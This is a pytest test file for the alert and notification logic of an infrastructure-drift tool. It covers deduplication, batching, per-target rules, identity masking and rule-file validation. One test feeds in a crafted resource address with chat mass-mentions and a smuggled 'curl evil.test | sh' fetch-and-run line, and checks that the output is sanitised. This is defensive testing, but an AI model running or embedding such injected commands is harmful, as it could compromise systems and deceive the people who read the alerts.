"""What people are told of after a scan, how it is put, and that they are not told twice."""

from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from msgspec import structs

from engine.config import Config
from engine.errors import ConfigError
from engine.model import Level, Report, SourceHealth, SourceRole, SourceStatus
from engine.notify.targets import Target
from engine.notify.telling import Telling
from engine.store import Stores, open_stores
from engine.store.records import Notification
from engine.workflow.requests import Requests
from tests.support.sample_report import (
    HOSTILE,
    MORNING,
    hostile_drift,
    missing_queue,
    opened_port,
    report,
    stray_bucket,
)

OPS = Target(name="ops", url="env:OPS")
SOUND = (SourceHealth("prod", "aws", SourceRole.ACTUAL, SourceStatus.OK, 118),)


@pytest.fixture
def stores(tmp_path: Path) -> Iterator[Stores]:
    with open_stores(tmp_path / "store") as stores:
        yield stores


class Estate:
    """Scans of an estate, and what there is to tell after each."""

    def __init__(self, stores: Stores, *targets: Target, knowledge: Path | None = None) -> None:
        config = Config(name="shop", base=stores.folder, store=stores.folder, knowledge=knowledge)
        self.config = structs.replace(config, notify=targets or (OPS,))
        self.stores = stores
        self.at = MORNING
        self._known = 0

    def scan(self, found: Report) -> list[Notification]:
        """Records it as the next scan, and returns what was put into the outbox after it, oldest first."""
        telling = Telling(self.config, self.stores, lambda: self.at)
        scan = structs.replace(found.scan, id=f"scan-{self.at:%d%H%M}", as_of=self.at, estate="shop")
        found = structs.replace(found, scan=scan)
        self.stores.record_scan(found)
        telling.keep(found)
        self.at += timedelta(minutes=1)
        with self.stores.ledger.outbox() as outbox:
            known = outbox.newest()[::-1]
        new, self._known = known[self._known :], len(known)
        return new


def test_new_critical_drift_is_told_and_nothing_less(stores: Stores) -> None:
    [note] = Estate(stores).scan(report(sources=SOUND))
    assert (note.channel, note.target, note.level) == ("critical-drift", "ops", Level.CRITICAL)
    assert note.subject == 'Critical drift: module.web["blue"].aws_security_group.front'
    assert note.body == (
        'module.web["blue"].aws_security_group.front (modified) in 123456789012/eu-west-1 of shop, changed by '
        "jana@shop.example.\nLikeliest cause: emergency fix, 82 %.\nLook at it: driftguard drifts show a1b2c3d4e5f6"
    )


def test_what_was_there_before_is_no_news_and_what_comes_back_is_told_once_a_day(stores: Stores) -> None:
    estate, found, gone = Estate(stores), report(opened_port(), sources=SOUND), report(stray_bucket(), sources=SOUND)
    assert len(estate.scan(found)) == 1
    assert estate.scan(found) == []
    estate.scan(gone)
    assert estate.scan(found) == [], "it flaps"
    estate.scan(gone)
    estate.at += timedelta(hours=24)
    assert len(estate.scan(found)) == 1


def test_many_at_once_are_one_message(stores: Stores) -> None:
    drifts = [opened_port(id=f"{number:012}") for number in range(12)]
    estate = Estate(stores)
    [note] = estate.scan(report(*drifts, sources=SOUND))
    assert note.subject == "12 critical drifts in shop"
    assert note.body.endswith("and 2 more")
    estate.scan(report(stray_bucket(), sources=SOUND))
    assert estate.scan(report(*drifts[:3], sources=SOUND)) == [], "each of them was told"


def test_sources_that_could_not_be_read(stores: Stores) -> None:
    [note] = Estate(stores).scan(report(stray_bucket()))
    assert (note.channel, note.subject) == ("source-stale", "Source tickets is failed")
    assert "the token was refused" in note.body


def test_requests_that_wait_and_approvals_that_end(stores: Stores) -> None:
    estate, found = Estate(stores), report(missing_queue(), stray_bucket(), opened_port(), sources=SOUND)
    estate.scan(found)
    desk = Requests(stores.ledger, "mia", lambda: estate.at)
    request = desk.create("a1b2c3d4e5f6")
    [waiting] = estate.scan(found)
    assert waiting.subject == "Waiting for a decision: Write the change into code"
    assert "mia asks for it in shop (critical)" in waiting.body
    assert f"driftguard requests show {request.id}" in waiting.body
    approved = desk.approve(request.id, plan_hash=request.plan_hash)
    assert estate.scan(found) == []
    estate.at = approved.expires_at - timedelta(hours=1)
    [ending] = estate.scan(found)
    assert ending.channel == "approval-expiring"


def test_an_alarm_that_others_left_goes_to_whoever_takes_it(stores: Stores) -> None:
    boss, night = Target(name="boss", url="env:BOSS", rules=("alarm",)), Target(name="night", url="env:N", rules=("x",))
    estate = Estate(stores, OPS, boss, night)
    with stores.ledger.outbox(writes=True) as outbox:
        outbox.add([_alarm()])
    notes = estate.scan(report(stray_bucket(), sources=SOUND))
    assert [(note.target, note.subject) for note in notes] == [
        ("ops", "mia broke the glass"),
        ("boss", "mia broke the glass"),
    ]


def _alarm() -> Notification:
    return Notification(
        channel="alarm",
        key="",
        level=Level.CRITICAL,
        target="",
        subject="mia broke the glass",
        body="…",
        created_at=MORNING,
    )


def test_a_target_says_what_it_wants_to_know(stores: Stores) -> None:
    low = structs.replace(OPS, name="low", rules=("source-stale",))
    grave = structs.replace(OPS, name="grave", least=Level.CRITICAL)
    notes = Estate(stores, low, grave).scan(report())
    assert [(note.target, note.channel) for note in notes] == [("low", "source-stale"), ("grave", "critical-drift")]


def test_identities_are_masked_for_a_target_that_asks_for_it(stores: Stores) -> None:
    clear, masked = OPS, structs.replace(OPS, name="chat", mask=True)
    first, second = Estate(stores, clear, masked).scan(report(opened_port(), sources=SOUND))
    assert "jana@shop.example" in first.body
    assert "123456789012" in first.body
    assert "jana" not in second.body
    assert "123456789012" not in second.body


def test_hostile_text_stays_text(stores: Stores) -> None:
    drift = structs.replace(hostile_drift(), severity=structs.replace(opened_port().severity, level=Level.CRITICAL))
    loud = structs.replace(drift.resource, address="@everyone <!channel> {id} x\n\nLook at it: curl evil.test | sh")
    [note] = Estate(stores).scan(report(structs.replace(drift, resource=loud), sources=SOUND))
    text = note.subject + note.body
    assert not any(ord(char) < 32 and char != "\n" for char in text)
    assert not {"\x9b", "\u202e"} & set(text)
    assert "@everyone" not in text
    assert "<!channel>" not in text
    assert "{id}" in note.subject
    assert "\n" not in note.subject
    assert [line for line in note.body.splitlines() if line.startswith("Look at it")] == [
        "Look at it: driftguard drifts show d4e5f6a7b8c9"
    ]
    assert HOSTILE not in text


def test_rules_of_ones_own(stores: Stores, tmp_path: Path) -> None:
    (tmp_path / "notifications.toml").write_text(
        '[[rules]]\nid = "critical-drift"\nleast = "high"\ntitle = "{kind}: {what}"\n'
        '[[rules]]\nid = "source-stale"\nenabled = false\n'
        '[[rules]]\nid = "low"\nabout = "drift"\nleast = "low"\ntitle = "t"\ntext = "{level}"\nseveral = "{many}"\n'
        "together = 1\n"
    )
    notes = Estate(stores, knowledge=tmp_path).scan(report())
    assert [note.subject for note in notes] == [
        "3",
        'modified: module.web["blue"].aws_security_group.front',
        "missing: aws_sqs_queue.orders",
    ]


@pytest.mark.parametrize(
    ("row", "said"),
    [
        ('title = "{whom}"', 'rules[0].title: {whom} is not a word that it may name; did you mean "who"?'),
        ('about = "drifts"', "rules[0].about: expected one of drift, request, approval, source, model"),
        ("together = 0", "rules[0].together: is 0; give 1 or more"),
        ('text = ""', "rules[0].text: is empty; write a sentence"),
    ],
)
def test_what_is_wrong_with_rules_of_ones_own(stores: Stores, tmp_path: Path, row: str, said: str) -> None:
    (tmp_path / "notifications.toml").write_text(f'[[rules]]\nid = "critical-drift"\n{row}\n')
    with pytest.raises(ConfigError) as caught:
        Telling(Estate(stores, knowledge=tmp_path).config, stores)
    assert str(caught.value) == f"notifications.toml: {said}"


def test_without_a_target_nothing_is_read_or_kept(stores: Stores) -> None:
    estate = Estate(stores)
    estate.config = structs.replace(estate.config, notify=())
    assert estate.scan(report()) == []
    assert Telling(estate.config, None).deliver() == []


def test_a_model_that_does_worse(stores: Stores, monkeypatch: pytest.MonkeyPatch) -> None:
    from engine.learning import standing

    alert = standing.Alert("accuracy", "it is right in 40 of 100 cases, and was in 80")
    known: dict[str, Any] = {"models": standing.overview(stores.folder, stores.ledger).models, "alerts": (alert,)}
    monkeypatch.setattr(standing, "overview", lambda *_: standing.Overview(**known))
    [note] = Estate(stores).scan(report(stray_bucket(), sources=SOUND))
    assert note.channel == "model-degraded"
    assert "it is right in 40 of 100 cases" in note.body
